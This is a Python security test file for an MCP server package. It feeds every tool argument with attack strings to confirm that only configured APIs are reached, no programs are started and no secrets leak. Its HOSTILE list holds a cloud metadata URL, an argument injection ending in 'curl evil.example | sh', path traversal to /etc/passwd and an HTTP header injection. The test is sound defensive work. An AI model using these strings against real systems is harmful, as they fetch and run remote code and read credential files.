"""Every tool of every server, with arguments of an attacker: nothing but the configured APIs is ever reached, nothing is
started, no file outside is read, dates, namespaces and selectors are refused before anything is asked, answers are bounded.
"""

from __future__ import annotations

import importlib
import re
import sys
from collections.abc import AsyncIterator, Iterator, Mapping
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from aiohttp import web
from fastmcp import Client
from tocsin_mcp.__main__ import SERVERS
from tocsin_mcp.cloudwatch.client import OPERATIONS
from tocsin_mcp.kit.environment import Environment
from tocsin_mcp.prometheus.client import READING

SECRET = "the-password-is-hunter2"
MOST_BYTES = 64 * 1024 + 1024

FOREIGN = "http://169.254.169.254/latest/meta-data/"
HOSTILE = (
    FOREIGN,
    "--upload-pack=$(touch /tmp/owned); curl evil.example | sh",
    "../../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd?y=1&z=2#fragment",
    "a\nHost: evil.example\r\n\r\nGET / HTTP/1.1",
    "a" * 100_000,
)
CHECKED = frozenset({"since", "until", "time", "step", "onset", "selector", "kind", "state"})
"""Arguments whose grammar is closed: none of the texts above belongs to it."""
CHECKED_IN_KUBERNETES = frozenset(
    {"namespace", "name", "workload", "pod", "container", "service", "deployment"}
)
VALID: Mapping[str, object] = {
    "name": "cart",
    "kind": "service",
    "deployment": "cart",
    "namespace": "AWS/SQS",
    "metric": "up",
    "statistics": ["Sum"],
    "group": "/aws/x",
    "groups": ["/aws/x"],
    "query": "up",
    "path": "README.md",
    "sha": "0123456",
    "base": "main",
    "head": "main",
    "since": "1h",
    "start_line": 1,
    "workload": "cart",
}
_ADDRESSES = re.compile(
    r"url|uri|host|endpoint|address|command|cmd|shell|exec|script|program|binary|kubeconfig|context|cluster|token|region"
    r"|account|profile|channel|owner",
    re.IGNORECASE,
)


class Upstream:
    """The world outside: one address for every API, which knows nothing and remembers what it was asked."""

    def __init__(self) -> None:
        self.address = ""
        self.asked: list[tuple[str, str, str]] = []

    async def answer(self, request: web.Request) -> web.Response:
        """404 to everything; method, path as it was sent, and AWS's operation are kept."""
        target = request.headers.get("X-Amz-Target", "")
        self.asked.append((request.method, request.raw_path.partition("?")[0], target))
        return web.json_response({"message": "Not Found", "ok": False}, status=404)


@pytest.fixture
async def upstream() -> AsyncIterator[Upstream]:
    """It listens on loopback."""
    made = Upstream()
    application = web.Application(client_max_size=2**24)
    application.router.add_route("*", "/{path:.*}", made.answer)
    runner = web.AppRunner(application, max_line_size=2**20, max_field_size=2**20)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    made.address = f"http://127.0.0.1:{runner.addresses[0][1]}"
    yield made
    await runner.cleanup()


class Watch:
    """What this process did beyond computing: programs started, and addresses connected to or looked up."""

    def __init__(self) -> None:
        self.on = False
        self.programs: list[str] = []
        self.addresses: set[str] = set()

    def hear(self, event: str, arguments: tuple[Any, ...]) -> None:
        if not self.on:
            return
        if event in ("subprocess.Popen", "os.exec", "os.posix_spawn", "os.system", "os.fork"):
            self.programs.append(f"{event} {arguments!r}"[:300])
        elif event == "socket.connect" and isinstance(arguments[1], tuple):
            self.addresses.add(str(arguments[1][0]))
        elif event == "socket.getaddrinfo":
            self.addresses.add(str(arguments[0]))


_WATCH = Watch()


@pytest.fixture(scope="session")
def heard() -> Watch:
    """An audit hook stays for the life of a process, so there is one."""
    sys.addaudithook(_WATCH.hear)
    return _WATCH


@pytest.fixture
def watch(heard: Watch) -> Iterator[Watch]:
    """What happens during the test."""
    heard.programs.clear()
    heard.addresses.clear()
    heard.on = True
    yield heard
    heard.on = False


@pytest.fixture
def settings(upstream: Upstream, tmp_path: Path) -> Environment:
    """Every server, configured for that upstream and a folder of runbooks beside a file with a secret."""
    (tmp_path / "passwd").write_text(SECRET)
    books = tmp_path / "books"
    books.mkdir()
    (books / "cart.md").write_text("# Cart\nRestart it.\n")
    (books / "way-out.md").symlink_to(tmp_path / "passwd")
    kubeconfig = tmp_path / "kubeconfig"
    kubeconfig.write_text(
        "{apiVersion: v1, kind: Config, current-context: a, "
        f"clusters: [{{name: a, cluster: {{server: '{upstream.address}'}}}}], users: [{{name: a, user: {{}}}}], "
        "contexts: [{name: a, context: {cluster: a, user: a}}]}"
    )
    return Environment(
        {
            "KUBECONFIG": str(kubeconfig),
            "GITHUB_API_URL": upstream.address,
            "GITHUB_TOKEN": "t",
            "TOCSIN_GITHUB_REPOSITORY": "acme/shop",
            "SLACK_API_URL": f"{upstream.address}/api/",
            "SLACK_BOT_TOKEN": "xoxb-1",
            "TOCSIN_SLACK_CHANNEL": "C0123456789",
            "TOCSIN_SLACK_THREAD_TS": "1.1",
            "PROMETHEUS_URL": upstream.address,
            "AWS_ENDPOINT_URL": upstream.address,
            "AWS_REGION": "eu-west-1",
            "AWS_ACCESS_KEY_ID": "k",
            "AWS_SECRET_ACCESS_KEY": "s",
            "TOCSIN_RUNBOOKS": str(books),
        }
    )


def _build(name: str, settings: Environment) -> Any:
    return importlib.import_module(f"tocsin_mcp.{name}.server").build(settings)


def _strings(schema: Mapping[str, Any]) -> bool:
    kinds = {schema.get("type"), *(each.get("type") for each in schema.get("anyOf", []))}
    return "string" in kinds


async def _attacks(client: Client[Any]) -> list[tuple[str, str, dict[str, object]]]:
    """Each text in each argument that takes text, of each tool; what else it needs is as it should be."""
    found = []
    for tool in await client.list_tools():
        schema = tool.input_schema
        needed = {name: VALID[name] for name in schema.get("required", [])}
        for name, argument in schema["properties"].items():
            if _strings(argument):
                found += [(tool.name, name, {**needed, name: text}) for text in HOSTILE]
    return found


@pytest.mark.parametrize("server", SERVERS)
async def test_no_argument_is_an_address_or_a_command(server: str, settings: Environment) -> None:
    """By its name; and every argument is plain text, a number, a choice or a list or map of texts."""
    async with Client(_build(server, settings)) as client:
        tools = await client.list_tools()
    for tool in tools:
        assert tool.annotations
        assert tool.annotations.read_only_hint, tool.name
        for name in tool.input_schema["properties"]:
            assert not _ADDRESSES.search(name), (tool.name, name)


@pytest.mark.parametrize("server", SERVERS)
async def test_no_text_leads_anywhere_but_to_the_configured_api(
    server: str, settings: Environment, upstream: Upstream, watch: Watch
) -> None:
    async with AsyncExitStack() as stack:
        client = await stack.enter_async_context(Client(_build(server, settings)))
        for tool, argument, arguments in await _attacks(client):
            before = len(upstream.asked)
            got = await client.call_tool(tool, arguments, raise_on_error=False)
            said = "".join(getattr(block, "text", "") for block in got.content)
            where = f"{server} {tool}({argument}={str(arguments[argument])[:40]!r})"
            assert len(said.encode()) <= MOST_BYTES, where
            assert SECRET not in said, where
            checked = CHECKED | (CHECKED_IN_KUBERNETES if server == "kubernetes" else set())
            if argument in checked:
                assert got.is_error, where
                assert upstream.asked[before:] == [], where
            for request in upstream.asked[before:]:
                assert _known(server, *request), (where, request)
    assert watch.programs == []
    # The one text that Slack's tools take is a date, so nothing here gets past its check; runbooks are files.
    silent = server in ("runbooks", "slack")
    assert watch.addresses == (set() if silent else {"127.0.0.1"})
    assert bool(upstream.asked) is not silent


def _known(server: str, method: str, path: str, target: str) -> bool:
    """Whether a request is one of those that the server's documentation names."""
    parts = [unquote(part) for part in path.split("/")]
    if any(part in (".", "..") for part in parts):
        return False
    if server == "cloudwatch":
        return (method, path) == ("POST", "/") and target.rpartition(".")[2] in OPERATIONS
    if server == "prometheus":
        return method == "GET" and path.removeprefix("/api/v1/") in READING
    patterns = {
        "kubernetes": r"GET /(api/v1|apis/[a-z0-9.]+/v\w+)/(namespaces/[a-z0-9-]+/)?[a-z]+(/[a-z0-9.-]+(/log)?)?",
        "github": r"(GET /(repos/acme/shop(/.*)?|search/code)|POST /graphql)",
        "slack": r"POST /api/(conversations\.(history|replies)|users\.info|auth\.test)",
    }
    return re.fullmatch(patterns[server], f"{method} {path}", re.DOTALL) is not None
